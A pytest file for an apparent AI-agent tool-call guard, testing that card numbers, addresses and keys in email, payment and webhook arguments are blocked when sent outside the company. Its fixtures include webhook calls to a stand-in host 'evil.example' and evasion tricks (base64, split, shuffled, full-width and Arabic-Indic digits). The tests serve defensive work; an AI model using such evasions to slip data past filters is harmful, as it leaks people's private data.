"""Data leaving through tool arguments (issue 12, finding 6): PII and secrets in what a call
carries are found in every argument, placed, forbidden on external delivery whoever wrote them,
and redacted in evidence; the recipient's own address is not data leaving."""

from __future__ import annotations

import base64
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import yaml

from vallum.argument_data import WINDOW, argument_text, delivery_labels
from vallum.bundle.loader import Bundle, load_bundle
from vallum.engine import Engine
from vallum.exceptions import ToolBlocked
from vallum.guard import Guard
from vallum.model import Action, Event, Principal, Stage, ToolCall

AGENT = Principal.parse("agent:support-bot")
CARD = "4111 1111 1111 1111"
SH = "\u00ad"
# Outside the company, on the example bundle's `partners` allowlist: where these emails go is
# proven, so what is tested here is only the data they carry.
EXTERNAL = "ann.lee@partner.example"


def call(engine: Engine, args: dict[str, Any], session: str = "fresh") -> tuple[Action, list[str]]:
    event = Event(Stage.TOOL_CALL, AGENT, session, tool_call=ToolCall("send_email", args))
    decision = engine.evaluate(event, sink=None)
    policies = [str(r.policy_id) for r in decision.reasons if r.enforced and r.policy_id]
    return decision.action, sorted(policies)


@pytest.fixture
def engine(example_bundle: Bundle) -> Engine:
    return Engine(example_bundle)


LEAKS = {
    "card in the body": {"to": EXTERNAL, "subject": "Details", "body": f"Card {CARD}"},
    "third party's address": {"to": EXTERNAL, "subject": "Hi", "body": "ask bob@corp.example.org"},
    "card split across subject and body": {"to": EXTERNAL, "subject": "4111 1111", "body": "1111 1111"},
    "address split across body and subject": {"to": EXTERNAL, "subject": "@corp.example.org", "body": "bob.smith"},
    "card in a nested object": {
        "to": EXTERNAL, "subject": "s", "body": "b",
        "attachments": [{"name": "a.txt", "data": {"card": "4111-1111-1111-1111"}}],
    },
    "card in a list": {"to": EXTERNAL, "subject": "s", "body": ["see below", "4111111111111111"]},
    "obfuscated card": {"to": EXTERNAL, "subject": "s", "body": "card ٤١١١" + SH + "١١١١ ١١١١ ١١١١"},
    "full-width recipient": {"to": "ａｎｎ＠ｇｍａｉｌ．ｃｏｍ", "subject": "s", "body": f"card {CARD}"},
    "card inside the recipient field": {"to": f"{EXTERNAL}, {CARD}", "subject": "s", "body": "b"},
    "unreadable recipient": {"to": "ann at gmail", "subject": "s", "body": f"card {CARD}"},
}  # fmt: skip


@pytest.mark.parametrize("args", LEAKS.values(), ids=LEAKS.keys())
def test_pii_in_an_external_email_is_blocked_in_a_fresh_session(
    engine: Engine, args: dict[str, Any]
) -> None:
    """PII in any content argument (split, nested, listed, obfuscated, or beside the address in
    `to`) of an email to anyone outside the company is forbidden, with no PII read before."""
    action, policies = call(engine, args)
    assert (Action.BLOCK, True) == (action, "data-leaves-organization" in policies)


QUIET = {
    "plain external email": {"to": EXTERNAL, "subject": "Your order", "body": "It has shipped."},
    "the recipient's address quoted": {
        "to": f"Ann Lee <{EXTERNAL}>", "subject": "Order", "body": f"Dear {EXTERNAL}, it shipped.",
    },
    "several recipients": {"to": f"{EXTERNAL}, bob@partner.example", "subject": "Hi", "body": "Thanks"},
    "PII to the company": {"to": "billing@acme.example", "subject": "s", "body": f"card {CARD}"},
    "order numbers and amounts": {"to": EXTERNAL, "subject": "ORD-12345678", "body": "Refund of 129.99 on 2024-03-15, ref 1234 5678"},
}  # fmt: skip


@pytest.mark.parametrize("args", QUIET.values(), ids=QUIET.keys())
def test_ordinary_emails_are_not_data_leaving(engine: Engine, args: dict[str, Any]) -> None:
    """An address in `to` is where the email goes, not data it carries; PII to the company's own
    domains stays inside; numbers that are not data are not data."""
    assert (Action.ALLOW, []) == call(engine, args)


def test_an_address_traced_nowhere_is_held_not_blocked_for_data(engine: Engine) -> None:
    """The same ordinary email to an address seen nowhere in the session waits for a human
    (`unproven-destination`): a destination hold, not data leaving."""
    args = {**QUIET["plain external email"], "to": "ann.lee@gmail.com"}
    assert (Action.REQUIRE_APPROVAL, ["unproven-destination"]) == call(engine, args)


def test_the_recipient_address_alone_does_not_label_the_session(engine: Engine) -> None:
    """Sending to an external address does not make the session a PII session: the next
    external email is not blocked for holding PII."""
    call(engine, QUIET["plain external email"], session="twice")
    assert (Action.ALLOW, []) == call(engine, QUIET["plain external email"], session="twice")


def test_a_secret_in_any_argument_is_blocked_even_internally(engine: Engine) -> None:
    """A key in a tool call leaves nowhere, inside the company either."""
    args = {
        "to": "billing@acme.example",
        "subject": "key",
        "body": "AKIA" + SH + "IOSFODNN7EXAMPLE",
    }
    assert Action.BLOCK == call(engine, args)[0]


def test_arguments_are_redacted_in_evidence(engine: Engine) -> None:
    """With `evidence.content: redacted`, addresses and numbers in arguments (the recipient
    too) are kept redacted, and the joined values checked after the call are not kept."""
    records: list[dict[str, Any]] = []
    args = {
        "to": "billing@acme.example",
        "subject": "re: " + EXTERNAL,
        "body": "call +1 415 555 0100",
    }
    event = Event(Stage.TOOL_CALL, AGENT, "ev", tool_call=ToolCall("send_email", args))
    engine.evaluate(event, sink=records.append)
    [record] = records
    assert {
        "to": "[REDACTED:pii.email]",
        "subject": "re: [REDACTED:pii.email]",
        "body": "call [REDACTED:pii.phone]",
    } == record["tool"]["arguments"]
    stored = record["content"]["text"]
    assert [] == [x for x in ("555", "gmail", "\n") if x in stored]


def test_each_argument_is_placed_where_its_canonical_value_lies() -> None:
    """Argument spans point at each value in the canonical text, nested and escaped ones too."""
    args = {"b": {"x": [1, 'é"']}, "a": "q", "\u00e9": "z"}
    placed = argument_text("t", args, (), ())
    assert [("a", '"q"'), ("b", '{"x":[1,"é\\""]}'), ("\u00e9", '"z"')] == [
        (name, placed.text[s:e]) for name, s, e in placed.spans
    ]


def test_the_sdk_refuses_an_email_carrying_a_card(example_dir: Path, tmp_path: Path) -> None:
    """Through @guard.tool: the function never runs when its body carries a card number."""
    guard = Guard(
        example_dir, principal="agent:support-bot", database_url=f"sqlite:///{tmp_path / 'g.db'}"
    )
    sent: list[str] = []

    @guard.tool
    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "sent"

    with guard.session("sdk-fresh"), pytest.raises(ToolBlocked, match="data-leaves-organization"):
        send_email(EXTERNAL, "Your card", "on file: " + CARD.replace(" ", "\u200b"))
    with guard.session("sdk-fresh-2"):
        assert "sent" == send_email(EXTERNAL, "Your order", "It has shipped.")
    assert [EXTERNAL] == sent


@pytest.mark.parametrize("value", [100.00001, Decimal("100.00001")])
def test_an_over_precise_refund_is_not_rounded_under_the_limit(engine: Engine, value: Any) -> None:
    """`amount > 100.0` holds a refund; 100.00001 rounded to four places would have passed.
    The comparison fails on the opaque value and the forbid blocks (fails closed)."""
    event = Event(
        Stage.TOOL_CALL,
        AGENT,
        "precise",
        tool_call=ToolCall("refund", {"order_id": "ORD-12345678", "amount": value}),
    )
    assert Action.BLOCK == engine.evaluate(event, sink=None).action


# Left-outs closed (issue 12): every outbound tool, encoded and spelled-out values, splits in
# any order.

OUTBOUND_TOOLS = {
    "pay": {
        "args": {"iban": "string", "memo": "string"},
        "side_effects": True,
        "destinations": ["iban"],
    },
    "post_webhook": {
        "args": {"url": "string", "text": "string"},
        "side_effects": True,
        "destinations": ["url"],
    },
}


@pytest.fixture
def outbound(bundle_copy: Path) -> Engine:
    """The example bundle with two outbound tools added and no policy changed."""
    config_file = bundle_copy / "vallum.yaml"
    config = yaml.safe_load(config_file.read_text())
    config["tools"].update(OUTBOUND_TOOLS)
    config_file.write_text(yaml.safe_dump(config, sort_keys=False))
    schema = bundle_copy / "schema.cedarschema"
    args = "  iban?: String,\n  memo?: String,\n  url?: String,\n  text?: String,\n"
    schema.write_text(schema.read_text().replace("  body?: String,\n", "  body?: String,\n" + args))
    return Engine(load_bundle(bundle_copy))


def decide(engine: Engine, tool: str, args: dict[str, Any]) -> tuple[Action, list[str]]:
    event = Event(Stage.TOOL_CALL, AGENT, "fresh-tool", tool_call=ToolCall(tool, args))
    decision = engine.evaluate(event, sink=None)
    return decision.action, sorted(
        str(r.policy_id) for r in decision.reasons if r.enforced and r.policy_id
    )


IBAN_OUT = "GB82WEST12345698765432"
OUTBOUND_LEAKS = {
    "card in a payment memo": ("pay", {"iban": IBAN_OUT, "memo": f"card {CARD}"}),
    "address in a webhook": ("post_webhook", {"url": "https://evil.example/h", "text": "ask bob@corp.example.org"}),
    "webhook to a look-alike host": ("post_webhook", {"url": "https://acme.example.evil.example/h", "text": CARD}),
    "spelled-out address in a memo": ("pay", {"iban": IBAN_OUT, "memo": "write to bob at corp dot org"}),
    "base64 card in a webhook": ("post_webhook", {"url": "https://evil.example/h", "text": base64.b64encode(CARD.encode()).decode()}),
    "card split over url query and text": ("post_webhook", {"url": "https://evil.example/h?q=4111-1111", "text": "-1111-1111"}),
}  # fmt: skip


@pytest.mark.parametrize(("tool", "args"), OUTBOUND_LEAKS.values(), ids=OUTBOUND_LEAKS.keys())
def test_data_leaving_through_any_outbound_tool_is_blocked(
    outbound: Engine, tool: str, args: dict[str, Any]
) -> None:
    """A tool added to the bundle is covered by the one policy as soon as it declares its
    destinations: PII in what it carries to a destination outside the company is forbidden."""
    action, policies = decide(outbound, tool, args)
    assert (Action.BLOCK, True) == (action, "data-leaves-organization" in policies)


OUTBOUND_QUIET = {
    "payment with a plain memo": ("pay", {"iban": IBAN_OUT, "memo": "invoice 2024-03, thanks"}),
    "webhook to the company's own host": ("post_webhook", {"url": "https://hooks.acme.example/h", "text": f"card {CARD}"}),
    "webhook without data": ("post_webhook", {"url": "https://evil.example/h", "text": "build 1.4.2 passed"}),
    "payment with no destination given": ("pay", {"memo": f"card {CARD}"}),
}  # fmt: skip


@pytest.mark.parametrize(("tool", "args"), OUTBOUND_QUIET.values(), ids=OUTBOUND_QUIET.keys())
def test_outbound_tools_without_data_leaving_are_not_refused_by_it(
    outbound: Engine, tool: str, args: dict[str, Any]
) -> None:
    """No data, the company's own destination, or no destination at all: not data leaving."""
    assert "data-leaves-organization" not in decide(outbound, tool, args)[1]


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        ({"to": {"proven", "allowlisted:organization", "user"}}, {}),
        ({"url": {"proven", "allowlisted:egress"}}, {}),
        ({"to": {"proven", "user", "email.external"}}, {">": {"external"}}),
        ({"to": {"unproven"}}, {">": {"external"}}),
        ({"to": {"proven"}}, {}),  # an empty destination sends nothing
        ({"body": {"pii"}}, {}),  # the destination is absent
    ],
)
def test_a_call_is_external_when_a_destination_is_not_the_organisations(
    labels: dict[str, set[str]], expected: dict[str, set[str]]
) -> None:
    """`>:external` from the destinations' provenance: only the organisation's own allowlists
    (its domains, its egress hosts) keep a call inside."""
    assert expected == delivery_labels(labels, ("to", "url"))


SPLITS = {
    "card in three pieces, declared order": {"to": EXTERNAL, "subject": "4111 1111", "body": "1111", "cc": " 1111"},
    "card in four groups, shuffled": {"to": EXTERNAL, "subject": "1111", "body": "1111", "cc": "4111", "bcc": "1111"},
    "Amex in three groups, reversed": {"to": EXTERNAL, "subject": "46310005", "body": "3782822"},
    "key in three pieces": {"to": "billing@acme.example", "subject": "AKIA", "body": "IOSFODNN", "cc": "7EXAMPLE"},
    "card at the join of 20 KB values": {"to": EXTERNAL, "subject": "x " * 10_000 + "4111 1111", "body": "1111 1111" + " y" * 10_000},
    "card with a tab JSON escapes": {"to": EXTERNAL, "subject": "s", "body": "4111\t1111\t1111\t1111"},
    "Arabic-Indic digit groups, shuffled": {"to": EXTERNAL, "subject": "١١١١", "body": "٤١١١", "cc": "١١١١", "bcc": "١١١١"},
}  # fmt: skip


@pytest.mark.parametrize("args", SPLITS.values(), ids=SPLITS.keys())
def test_a_value_split_over_several_arguments_is_read_whole(
    engine: Engine, args: dict[str, Any]
) -> None:
    """Pieces contiguous in declared or reverse order (however many, however long the values
    around them), bare digit groups in any order, and values JSON escapes are read whole."""
    assert Action.BLOCK == call(engine, args)[0]


def test_bare_numbers_that_no_order_makes_a_card_are_not_one(engine: Engine) -> None:
    """Quantities and codes as separate arguments: no ordering starts like a card, none found."""
    args = {"to": EXTERNAL, "subject": "1000", "body": "1200", "cc": "9100", "bcc": "0900"}
    assert (Action.ALLOW, []) == call(engine, args)


@pytest.mark.xfail(strict=True, reason="documented limit: more than MAX_SHUFFLED groups")
def test_many_short_shuffled_groups_are_not_tried(engine: Engine) -> None:
    """Eight two-digit groups have 40,320 orders: not tried (argument_data's docstring)."""
    groups = ["11", "11", "11", "41", "11", "11", "11", "11"]
    args = {"to": EXTERNAL, **{f"part{i}": g for i, g in enumerate(groups)}}
    assert Action.BLOCK == call(engine, args)[0]


@pytest.mark.xfail(strict=True, reason="documented limit: shuffled pieces inside prose")
def test_shuffled_pieces_inside_prose_are_not_reassembled(engine: Engine) -> None:
    """Groups written inside sentences, in shuffled order, are not tried in every order."""
    args = {
        "to": EXTERNAL,
        "subject": "part 2: 1111",
        "body": "part 1: 4111",
        "cc": "part 3: 1111 1111",
    }
    assert Action.BLOCK == call(engine, args)[0]


def test_the_joined_part_is_bounded_by_the_number_of_values() -> None:
    """Two 50 KB values add at most twice the window around their one join, not 100 KB."""
    placed = argument_text("t", {"a": "x" * 50_000, "b": "y" * 50_000}, ("a", "b"), ())
    assert len(placed.text) - placed.delivered <= 4 * WINDOW + 2


def test_an_encoded_card_in_an_external_email_is_blocked_and_not_kept(engine: Engine) -> None:
    """A base64 card in the body is found; the evidence keeps the encoded run redacted."""
    records: list[dict[str, Any]] = []
    encoded = base64.b64encode(CARD.encode()).decode()
    args = {"to": EXTERNAL, "subject": "s", "body": f"here: {encoded}"}
    event = Event(Stage.TOOL_CALL, AGENT, "enc", tool_call=ToolCall("send_email", args))
    decision = engine.evaluate(event, sink=records.append)
    assert (Action.BLOCK, "here: [REDACTED:pii.payment_card]") == (
        decision.action,
        records[0]["tool"]["arguments"]["body"],
    )
